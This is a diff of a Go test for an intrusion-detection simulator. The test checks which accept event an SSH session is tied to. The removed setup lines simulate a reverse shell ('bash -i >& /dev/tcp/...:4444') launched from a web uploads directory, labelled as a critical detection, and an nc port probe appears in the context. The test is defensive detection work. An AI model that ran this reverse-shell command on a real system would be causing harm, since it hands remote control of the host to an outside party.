@@ -13,10 +13,7 @@ import (
 // also accepted: cgi-backdoor's nc -z probe of port 22 at 10:46:37 was said
 // to have opened labremote's session 36, which ssh[2321] opened at 10:46:56.
 func TestSSHSessionOpenerIsTheLastAcceptBeforeIt(t *testing.T) {
-	s := newSim(t, Options{})
-	s.webServer()
-	root := shellOf(200, worker1, "/var/www/html/uploads")
-	rev := s.find(s.exec(10, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	s, root, rev := reverseShellScene(t)
 	// a port probe of 22: sshd accepts, nothing logs in
 	probe := child(250, root)
 	s.exec(20, probe, "nc", "-z", "127.0.0.1", "22")
